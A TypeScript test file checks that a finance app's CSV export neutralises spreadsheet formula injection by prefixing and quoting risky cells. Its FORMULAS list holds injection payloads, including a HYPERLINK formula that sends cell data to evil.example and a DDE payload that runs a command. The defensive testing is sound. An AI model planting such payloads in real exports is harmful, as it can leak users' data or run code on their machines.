import { exportCsvColumns } from '@kassa/contract';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvText, type CsvRecord } from './csv-records.js';

const record = (fields: Partial<CsvRecord>): CsvRecord => ({
  ...(Object.fromEntries(exportCsvColumns.map((c) => [c, ''])) as CsvRecord),
  date: '2024-03-04',
  kind: 'real',
  direction: 'out',
  currency: 'EUR',
  amount: '-12.50',
  main_currency: 'EUR',
  amount_main: '-12.50',
  rate: '1',
  id: '7',
  ...fields,
});

/** The records csv-parse reads back, by column. */
const parsed = (text: string) => parse<CsvRecord>(text, { columns: true });

/** Text a spreadsheet would run as a formula (or as its start), each in a text column. */
const FORMULAS = [
  '=1+1',
  '+SUM(A1:A3)',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?q="&A1,"bank")',
  "=cmd|' /C calc'!A0",
];

describe('CSV text', () => {
  it("neutralises each text cell a spreadsheet would read as a formula with a leading ', quoted", () => {
    const records = FORMULAS.map((text, i) => record({ description: text, category: text, id: String(i + 1) }));
    const text = csvText(records, true, 'escape');
    const rows = parsed(text);
    expect(rows.map((r) => r.description)).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(rows.map((r) => r.category)).toEqual(FORMULAS.map((f) => `'${f}`));
    // OWASP: the neutralised cell is also quoted, so no reader splits or trims it.
    for (const line of text.split('\n').slice(1, 5)) expect(line).toMatch(/^2024-03-04,,real,,out,"'[=+\-@]/);
    expect(text).toContain(`"'\t=1+1","'\t=1+1"`);
  });

  it('leaves numeric columns as numbers: a negative amount stays -12.50', () => {
    const rows = parsed(
      csvText(
        [record({ description: '-5 refund', amount: '-12.50', to_amount: '-1', amount_main: '-13.99', rate: '-1' })],
        true,
        'escape',
      ),
    );
    expect(rows[0]).toMatchObject({
      description: "'-5 refund",
      amount: '-12.50',
      to_amount: '-1',
      amount_main: '-13.99',
      rate: '-1',
      id: '7',
    });
  });

  it('leaves ordinary text alone, and a cell with the trigger character elsewhere', () => {
    const text = csvText([record({ description: 'Lunch = 12 + tip', category: 'Food - out @ work' })], false, 'escape');
    expect(text).toBe('2024-03-04,,real,,out,Food - out @ work,Lunch = 12 + tip,EUR,-12.50,,,EUR,-12.50,1,,7\n');
  });

  it('writes text exactly as stored when asked to keep formulas', () => {
    const rows = parsed(csvText([record({ description: '=1+1', category: '@x' })], true, 'keep'));
    expect(rows[0]).toMatchObject({ description: '=1+1', category: '@x', amount: '-12.50' });
  });
});
